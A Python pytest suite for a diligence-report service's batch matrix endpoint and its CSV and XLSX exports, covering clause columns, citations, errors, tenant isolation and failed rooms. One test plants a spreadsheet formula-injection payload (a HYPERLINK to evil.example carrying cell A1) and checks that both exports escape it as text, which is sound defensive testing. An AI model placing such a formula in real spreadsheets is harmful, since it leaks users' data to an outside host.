"""GET /v1/batches/{id}/matrix (+ .csv, .xlsx) end to end on PostgreSQL and SQLite: three data rooms of
contracts written in tests/matrix_fixtures.py, run by the offline engine, read back as one matrix."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from reportgen.store.keys import create_key
from tests.matrix_fixtures import ROOMS, rooms_zip
from tests.service_fixtures import (
    api,
    client_on,
    make_zip,
    postgres_available,
    postgres_schema,
    settings_for,
    wait_report,
)
from tests.support import require

SUPPLIERS = {"acme": "Acme Hosting Inc", "globex": "Globex Cloud Ltd", "initech": "Initech Data LLC"}
LAW = {"acme": "New York", "globex": "Texas", "initech": "Delaware"}


@pytest.fixture(scope="module", params=["postgresql", "sqlite"])
def client(request, tmp_path_factory):  # noqa: ANN001, ANN201
    yield from client_on(request.param, tmp_path_factory.mktemp(f"matrix-{request.param}"))


@pytest.fixture(scope="module")
def batch(client) -> dict:  # noqa: ANN001
    r = client.post("/v1/batches/upload", files={"file": ("rooms.zip", rooms_zip())}, data={"sop": "diligence-memo"})
    assert r.status_code == 202, r.text
    b = r.json()
    for room in b["reports"]:
        assert wait_report(client, room["report_id"])["state"] == "succeeded"
    return client.get(f"/v1/batches/{b['id']}").json()


def matrix(client, batch_id: str, **params: str) -> dict:  # noqa: ANN001
    r = client.get(f"/v1/batches/{batch_id}/matrix", params=params)
    assert r.status_code == 200, r.text
    return r.json()


def cells(m: dict) -> dict[tuple[str, str], dict]:
    return {(row["room"], col["id"]): cell for row in m["rows"] for col, cell in zip(m["columns"], row["cells"],
                                                                                     strict=True)}


def test_one_row_per_room_one_column_per_clause_kind(client, batch) -> None:  # noqa: ANN001
    m = matrix(client, batch["id"], section="contract_terms")
    assert m["key_field"] == "clause" and m["value_field"] == "summary" and m["rows_by"] == "rooms"
    assert [r["room"] for r in m["rows"]] == sorted(ROOMS)
    assert "change of control" in [c["id"] for c in m["columns"]] and m["columns"] == m["available"]
    got = cells(m)
    # the clause each fixture room has or lacks, and its own wording in the cell
    for room, supplier in SUPPLIERS.items():
        coc = got[(room, "change of control")]
        if room == "globex":
            assert coc["flag"] == "not found" and coc["entries"] == [] and coc["value"] == ""
        else:
            assert coc["flag"] == "supported" and coc["value"].startswith(f"Upon a Change of Control of {supplier}")
        assert got[(room, "governing law")]["value"] == LAW[room]
    assert got[("acme", "liability cap")]["flag"] == "supported"
    assert "aggregate liability" in got[("acme", "liability cap")]["value"]
    assert {got[(r, "liability cap")]["flag"] for r in ("globex", "initech")} == {"not found"}
    found = {c["id"]: c["found"] for c in m["columns"]}
    assert found["change of control"] == 2 and found["liability cap"] == 1 and found["governing law"] == 3


def test_each_citation_links_to_its_quote_in_the_rooms_report(client, batch) -> None:  # noqa: ANN001
    m = matrix(client, batch["id"], section="contract_terms", fields="change of control,governing law")
    report_of = {r["room"]: r["report_id"] for r in batch["reports"]}
    checked = 0
    for row in m["rows"]:
        assert row["report_id"] == report_of[row["room"]] and row["href"] == f"/reports/{row['report_id']}"
        result = client.get(f"/v1/reports/{row['report_id']}/result").json()
        items = {i["id"]: i for s in result["sections"] for i in s["items"]}
        for cell in row["cells"]:
            for e in cell["entries"]:
                for n, c in enumerate(e["citations"]):
                    assert c["href"] == f"/reports/{row['report_id']}#cite-{e['item_id']}-{n}"
                    assert items[e["item_id"]]["citations"][n]["quote"] == c["quote"]
                    assert c["label"] == f"msa.pdf p. {c['page']}" and c["status"] == "exact"
                    checked += 1
    assert checked == 5  # two change-of-control clauses, three governing-law clauses


def test_fields_choose_and_order_the_columns(client, batch) -> None:  # noqa: ANN001
    m = matrix(client, batch["id"], section="contract_terms", fields="Liability cap, change of control")
    assert [c["id"] for c in m["columns"]] == ["liability cap", "change of control"]
    assert [c["label"] for c in m["columns"]] == ["Liability cap", "Change of control"]
    assert all(len(r["cells"]) == 2 for r in m["rows"])
    assert m["links"]["csv"].endswith("fields=liability+cap%2Cchange+of+control")
    # the repeated form is the same request
    r = client.get(f"/v1/batches/{batch['id']}/matrix",
                   params=[("section", "contract_terms"), ("fields", "liability cap"), ("fields", "change of control")])
    assert r.json()["columns"] == m["columns"]


def test_rows_per_document(client, batch) -> None:  # noqa: ANN001
    m = matrix(client, batch["id"], section="contract_terms", rows="documents", fields="governing law")
    assert [(r["room"], r["document"]) for r in m["rows"]] == [(room, "msa.pdf") for room in sorted(ROOMS)]
    assert all(r["document_id"] == r["cells"][0]["entries"][0]["citations"][0]["document_id"] for r in m["rows"])


def test_unknown_section_or_field_is_a_422_that_lists_the_choices(client, batch) -> None:  # noqa: ANN001
    base = f"/v1/batches/{batch['id']}/matrix"
    for suffix in ("", ".csv", ".xlsx"):
        r = client.get(base + suffix, params={"section": "nope"})
        assert r.status_code == 422 and r.json()["error"]["code"] == "unknown_section"
        assert "contract_terms" in r.json()["error"]["message"] and "financials" in r.json()["error"]["message"]
        r = client.get(base + suffix, params={"section": "contract_terms", "fields": "change of control,warranty"})
        assert r.status_code == 422 and r.json()["error"]["code"] == "unknown_field"
        assert "'warranty'" in r.json()["error"]["message"] and "liability cap" in r.json()["error"]["message"]
    r = client.get(base, params={"section": "product"})  # a list section: no columns to make
    assert r.status_code == 422 and "table section" in r.json()["error"]["message"]
    # a free-text key (financials' metric) knows only the metrics some room reports: none from this engine
    r = client.get(base, params={"section": "financials", "fields": "Revenue"})
    assert r.status_code == 422 and "none yet" in r.json()["error"]["message"]
    assert client.get("/v1/batches/bat_missing/matrix").status_code == 404
    assert client.get(base, params={"rows": "pages"}).status_code == 422


def test_default_section_is_the_sops_first_table(client, batch) -> None:  # noqa: ANN001
    m = matrix(client, batch["id"])
    assert m["section"] == "financials" and m["key_field"] == "metric"
    assert [s["id"] for s in m["sections"]] == ["financials", "team", "risks", "contract_terms"]
    assert m["columns"] == [] and len(m["rows"]) == 3  # the offline engine writes no financial rows


def test_csv_and_xlsx_carry_the_same_cells(client, batch) -> None:  # noqa: ANN001
    params = {"section": "contract_terms", "fields": "change of control,liability cap"}
    m = matrix(client, batch["id"], **params)
    r = client.get(f"/v1/batches/{batch['id']}/matrix.csv", params=params)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == f'attachment; filename="{batch["id"]}-contract_terms.csv"'
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert lines[0] == ["Room", "Report", "Change of control", "Change of control · flag", "Change of control · source",
                        "Liability cap", "Liability cap · flag", "Liability cap · source"]
    for line, row in zip(lines[1:], m["rows"], strict=True):
        assert line[0] == row["room"] and line[1] == "http://localhost" + row["href"]
        assert line[2::3] == [c["value"] for c in row["cells"]] and line[3::3] == [c["flag"] for c in row["cells"]]
    x = client.get(f"/v1/batches/{batch['id']}/matrix.xlsx", params=params)
    assert x.status_code == 200 and x.content[:2] == b"PK"
    ws = load_workbook(io.BytesIO(x.content)).active
    sheet = [[c.value or "" for c in row] for row in ws.iter_rows()]
    assert sheet == lines
    acme = ws.cell(row=2, column=3)
    assert acme.hyperlink.target == "http://localhost" + m["rows"][0]["cells"][0]["entries"][0]["citations"][0]["href"]


def test_the_matrix_follows_reviews_and_exports_escape_formulas(client, batch) -> None:  # noqa: ANN001
    """A rejected item leaves its cell; an edit shows, and an edit that reads as a formula stays text in
    both exports (its own batch, so the other tests see the engine's output)."""
    rooms = [{"name": r["room"], "document_ids": r["document_ids"]} for r in batch["reports"]]
    r = client.post("/v1/batches", json={"sop": "diligence-memo", "engine": "local", "rooms": rooms})
    assert r.status_code == 202, r.text
    b = r.json()
    for room in b["reports"]:
        wait_report(client, room["report_id"])
    params = {"section": "contract_terms", "fields": "liability cap,governing law"}
    got = cells(matrix(client, b["id"], **params))
    acme = {x["room"]: x["report_id"] for x in b["reports"]}["acme"]
    cap = got[("acme", "liability cap")]["entries"][0]["item_id"]
    law = got[("acme", "governing law")]["entries"][0]["item_id"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert client.patch(f"/v1/reports/{acme}/items/{cap}", json={"review": "rejected"}).status_code == 200
    assert client.patch(f"/v1/reports/{acme}/items/{law}", json={"fields": {"summary": evil}}).status_code == 200
    got = cells(matrix(client, b["id"], **params))
    assert got[("acme", "liability cap")]["flag"] == "not found"
    assert got[("acme", "governing law")]["value"] == evil and got[("acme", "governing law")]["entries"][0]["edited"]
    text = client.get(f"/v1/batches/{b['id']}/matrix.csv", params=params).content.decode("utf-8-sig")
    line = next(x for x in csv.reader(io.StringIO(text)) if x[0] == "acme")
    assert line[5] == "'" + evil
    ws = load_workbook(io.BytesIO(client.get(f"/v1/batches/{b['id']}/matrix.xlsx", params=params).content)).active
    cell = ws.cell(row=2, column=6)
    assert cell.value == evil and cell.data_type == "s"  # text, never a formula


def test_matrix_routes_are_per_tenant(tmp_path) -> None:  # noqa: ANN001
    require(postgres_available(), "PostgreSQL at 127.0.0.1:5432 with a database `test`")
    with postgres_schema() as url, api(settings_for(tmp_path, database_url=url, open_when_no_keys=False)) as c:
        keys = {}
        with c.app.state.service.db.session() as s:
            for tenant in ("alpha", "beta"):
                keys[tenant] = {"Authorization": f"Bearer {create_key(s, tenant)[1]}"}
        r = c.post("/v1/batches/upload", files={"file": ("r.zip", rooms_zip())}, data={"sop": "diligence-memo"},
                   headers=keys["alpha"])
        assert r.status_code == 202, r.text
        b = r.json()
        for room in b["reports"]:
            wait_report(c, room["report_id"], headers=keys["alpha"])
        for suffix in ("", ".csv", ".xlsx"):
            path = f"/v1/batches/{b['id']}/matrix{suffix}?section=contract_terms"
            assert c.get(path, headers=keys["alpha"]).status_code == 200
            other = c.get(path, headers=keys["beta"])
            assert other.status_code == 404 and other.json()["error"]["code"] == "not_found"
            assert c.get(path).status_code == 401


def test_a_room_that_failed_is_a_row_that_says_why(client) -> None:  # noqa: ANN001
    z = make_zip({"hooli/picture.png": b"\x89PNG\r\n\x1a\n" + b"0" * 64, "acme/msa.pdf": ROOMS["acme"]})
    r = client.post("/v1/batches/upload", files={"file": ("r.zip", z)}, data={"sop": "diligence-memo"})
    assert r.status_code == 202, r.text
    for room in r.json()["reports"]:
        wait_report(client, room["report_id"])
    m = matrix(client, r.json()["id"], section="contract_terms", fields="governing law")
    acme, hooli = m["rows"]
    assert acme["cells"][0]["value"] == "New York"
    assert hooli["room"] == "hooli" and hooli["state"] == "failed" and "picture.png" in hooli["error"]
    assert hooli["cells"] == [{"flag": "failed", "value": "", "number": None, "entries": []}]
